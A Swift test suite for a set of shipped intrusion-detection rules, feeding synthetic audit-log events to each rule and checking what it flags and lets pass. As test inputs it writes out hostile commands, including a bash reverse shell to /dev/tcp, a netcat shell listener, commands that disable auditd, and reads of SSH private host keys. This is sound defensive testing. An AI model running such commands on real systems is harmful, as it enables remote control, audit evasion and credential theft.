import Foundation
import Testing
import UsherConfig
import UsherPolicy
import UsherWire

/// An event as a line of the evidence log says it, with only what matters.
func line(
    _ kind: String, activity: Int = 1, at milliseconds: Int64 = 1_000, session: String = "s-a", role: String = "dba",
    status: Int = 1, command: String? = nil, program: String? = nil, path: String? = nil, ip: String? = nil,
    port: Int? = nil, uid: Int? = nil, euid: Int? = nil, owner: Int? = nil, record: String = "SYSCALL"
) -> DetectionEvent {
    var process: [(String, String)] = []
    if let command { process.append(("cmd_line", "\"\(command.replacing("\"", with: "\\\""))\"")) }
    if let program { process.append(("file", "{\"path\":\"\(program)\"}")) }
    let inner = process.map { "\"\($0.0)\":\($0.1)" }.joined(separator: ",")
    var parts = ["\"time\":\(milliseconds)", "\"activity_id\":\(activity)", "\"status_id\":\(status)"]
    parts.append("\"process\":{\(inner)}")
    if let path { parts.append("\"file\":{\"path\":\"\(path)\"}") }
    if let ip { parts.append("\"dst_endpoint\":{\"ip\":\"\(ip)\",\"port\":\(port ?? 443)}") }
    var ours = [
        "\"kind\":\"\(kind)\"", "\"session\":\"\(session)\"", "\"role\":\"\(role)\"", "\"record\":\"\(record)\"",
    ]
    ours += ["\"account\":\"u-k3j7x2mag5\"", "\"auid\":1900000000"]
    if let uid { ours.append("\"uid\":\(uid)") }
    if let euid { ours.append("\"euid\":\(euid)") }
    if let owner { ours.append("\"file_owner\":\(owner)") }
    parts.append("\"usher\":{\(ours.joined(separator: ","))}")
    guard case .object(let object)? = try? JSONParser.parse(Array("{\(parts.joined(separator: ","))}".utf8).span),
        let event = DetectionEvent(line: object)
    else {
        Issue.record("no event")
        return DetectionEvent(
            milliseconds: 0, session: nil, kind: "", activity: 0, attributes: JSONObject(), details: JSONObject())
    }
    return event
}

/// The rules that are shipped: what each finds, and what it lets pass.
@Suite struct DetectionRuleSetTests {
    private static let user = line("exec", program: "/usr/bin/id", uid: 1_900_000_000, euid: 1_900_000_000)
    private static let root = line("exec", program: "/usr/bin/id", uid: 0, euid: 0)
    private static let sudo = line("privilege", program: "/usr/bin/sudo", record: "USER_CMD")

    private static let cases: [(rule: String, found: [[DetectionEvent]], passed: [[DetectionEvent]])] = [
        ("audit-tampering", [[line("audit-config")]], [[line("audit-config", status: 2)]]),
        (
            "loginuid-left", [[line("loginuid", program: "/usr/bin/dash")]],
            [[line("login")], [line("loginuid", program: "/usr/bin/login")]]
        ),
        (
            "login-inside", [[line("loginuid", program: "/usr/bin/login")]],
            [[line("login", program: "/usr/bin/login")]]
        ),
        (
            "audit-tools",
            [[line("exec", command: "auditctl -e 0")], [line("exec", status: 2, command: "pkill -9 auditd")]],
            [[line("exec", command: "auditctl -l")], [line("exec", command: "systemctl status auditd")]]
        ),
        (
            "agent-files",
            [
                [line("file", activity: 3, path: "/etc/usher/usherd.toml")],
                [line("file", activity: 4, path: "/var/log/audit/audit.log")],
            ],
            [
                [line("file", activity: 2, path: "/etc/usher/usherd.toml")],
                [line("file", activity: 3, path: "/run/usher/home/u-k3j7x2mag5/x")],
            ]
        ),
        (
            "pam-files",
            [
                [line("file", activity: 7, path: "/etc/pam.d/sshd")],
                [line("file", path: "/lib/x86_64/security/pam_x.so")],
            ],
            [[line("file", activity: 2, path: "/etc/pam.d/sshd")], [line("file", path: "/etc/hosts")]]
        ),
        (
            "account-files",
            [
                [line("file", activity: 3, path: "/etc/sudoers.d/x")],
                [line("file", path: "/root/.ssh/authorized_keys")],
            ],
            [[line("file", activity: 2, path: "/etc/passwd")]]
        ),
        (
            "secrets-read", [[line("file", activity: 2, path: "/etc/ssh/ssh_host_ed25519_key")]],
            [[line("file", activity: 2, path: "/etc/ssh/ssh_host_ed25519_key.pub")]]
        ),
        (
            "privilege-gain",
            [
                [line("exec", program: "/tmp/rootshell", uid: 1_900_000_000, euid: 0)],
                [user, root], [user, line("privilege", program: "/usr/bin/python3", uid: 0, euid: 0)],
                // A door that said no lets nobody through.
                [user, line("privilege", status: 2, program: "/usr/bin/sudo", record: "USER_CMD"), root],
            ],
            [
                [line("exec", program: "/usr/bin/sudo", uid: 1_900_000_000, euid: 0)],
                // sshd's monitor starts programs for PAM before the user's first.
                [root, root, user], [user, sudo, root, user, root],
                [user, line("privilege", program: "/usr/bin/sudo", uid: 0, euid: 0)],
                [user, line("exec", status: 2, program: "/tmp/x", uid: 0, euid: 0)],
            ]
        ),
        (
            "failed-authentication",
            [(0..<5).map { line("authentication", at: Int64($0) * 5_000, status: 2) }],
            [
                (0..<4).map { line("authentication", at: Int64($0) * 5_000, status: 2) },
                (0..<9).map { line("authentication", at: Int64($0) * 5_000) },
                (0..<9).map { line("authentication", at: Int64($0) * 20_000, status: 2) },
                // Four in one session and four in another are not eight.
                (0..<8).map { line("authentication", session: $0 < 4 ? "s-a" : "s-b", status: 2) },
            ]
        ),
        (
            "foreign-file",
            [
                [line("file", path: "/run/usher/home/u-aaaaaaaaaa/.ssh/id")],
                [line("file", path: "/tmp/x", owner: 1_900_000_001)],
            ],
            [
                [line("file", path: "/run/usher/home/u-k3j7x2mag5/.ssh/id", owner: 1_900_000_000)],
                [line("file", path: "/etc/hosts", owner: 0)],
            ]
        ),
        ("control-attempt", [[line("control", status: 2)]], [[line("exec", status: 2)]]),
        ("program-in-tmp", [[line("exec", program: "/tmp/x")]], [[line("exec", program: "/usr/bin/tmp")]]),
        (
            "reverse-shell",
            [
                [line("exec", command: "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")],
                [line("exec", command: "nc -l -e /bin/sh")],
            ],
            [[line("exec", command: "nc -z db 5432")], [line("exec", command: "rsync -e ssh a b")]]
        ),
        (
            "metadata-service", [[line("connect", ip: "169.254.169.254", port: 80)]],
            [[line("connect", ip: "169.254.169.254", port: 53)], [line("connect", ip: "192.0.2.1", port: 80)]]
        ),
        (
            "job-left-behind",
            [[line("exec", program: "/usr/bin/at")], [line("exec", program: "/usr/bin/systemd-run")]],
            [[line("exec", status: 2, program: "/usr/bin/at")], [line("exec", program: "/usr/bin/cat")]]
        ),
        ("accounts-changed", [[line("account")]], [[line("account", status: 2)], [line("tag")]]),
        ("evidence-gap", [[line("gap", status: 2)]], [[line("exec")]]),
        (
            "flood", [(0..<50_000).map { line("file", at: Int64($0), path: "/x") }],
            [(0..<49_999).map { line("exec", at: Int64($0)) }]
        ),
    ]

    private func rule(_ name: String) throws -> DetectionRule {
        let text = try Project.text("examples/detect.d/\(name).toml")
        return try DetectionFile.parse(file: "\(name).toml", text: text).rule
    }

    @Test func everyRuleThatIsShippedHasItsTest() throws {
        let files = try FileManager.default.contentsOfDirectory(atPath: Project.root.path + "/examples/detect.d")
        #expect(files.sorted() == Self.cases.map { "\($0.rule).toml" }.sorted())
    }

    @Test(arguments: cases.map(\.rule)) func theRuleFindsWhatItIsForAndNothingElse(name: String) throws {
        let rule = try rule(name)
        let these = try #require(Self.cases.first { $0.rule == name })
        for (number, events) in these.found.enumerated() {
            var engine = DetectionEngine([rule])
            let found = events.map { engine.look($0) }
            #expect(found.last?.map(\.rule.name) == [name], "sequence \(number)")
            let early = found.dropLast().flatMap { $0 }
            #expect(early.isEmpty, "sequence \(number)")
        }
        for (number, events) in these.passed.enumerated() {
            var engine = DetectionEngine([rule])
            let found = events.flatMap { engine.look($0) }
            #expect(found.isEmpty, "sequence \(number)")
        }
    }

    @Test func whoEndsSessionsIsWrittenDown() throws {
        let ending = try Self.cases.map(\.rule).filter { try rule($0).actions.contains(.end) }
        #expect(ending == ["audit-tampering", "loginuid-left", "agent-files"])
    }
}
